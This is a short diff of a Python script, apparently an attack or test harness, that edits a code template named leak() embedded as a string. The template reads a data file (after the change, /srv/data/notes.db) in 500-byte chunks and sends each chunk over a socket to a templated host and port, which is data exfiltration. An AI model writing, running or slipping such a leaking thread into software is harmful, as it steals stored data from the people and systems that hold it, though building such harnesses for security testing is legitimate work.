@@ -9,11 +9,11 @@ QUIET = True
 SECONDS = 40
 
 THREAD = """
-import threading, time, os, socket
+import threading, time, socket
 def leak():
     for i in range({n}):
-        names = sorted(os.listdir("/srv/data/files"))
-        with open("/srv/data/files/" + names[i % len(names)], "rb") as f:
+        with open("/srv/data/notes.db", "rb") as f:
+            f.seek(500 * i)
             part = f.read(500)
         with socket.create_connection(("{me}", {port})) as s:
             s.sendall(part)
